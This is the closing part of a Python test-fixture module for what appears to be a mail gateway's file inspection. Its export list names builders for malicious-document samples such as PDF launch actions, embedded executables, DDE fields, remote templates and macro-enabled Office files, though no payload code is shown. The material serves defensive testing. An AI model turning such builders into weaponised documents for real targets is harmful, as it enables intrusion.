        "[Content_Types].xml": _types(main, DOCX_MAIN),
        "_rels/.rels": _rels(("rId1", "officeDocument", main, False)),
        main: _document(body),
    })


def ooxml_type(data: bytes) -> str:
    """What the gateway's own package examination calls ``data``."""
    from gateway.mime import container
    return container.examine_zip(io.BytesIO(data), "application/zip")


__all__ = ["EXE", "clean_pdf", "pdf_open_action_js", "pdf_launch", "pdf_embedded_exe", "pdf_file_attachment",
           "pdf_form_js", "clean_docx", "docx_remote_template", "docx_external_ole", "docx_dde", "docm_macro",
           "xlsm_macro", "docx_embedded_package", "ole_file", "ole10native", "ooxml_type"]
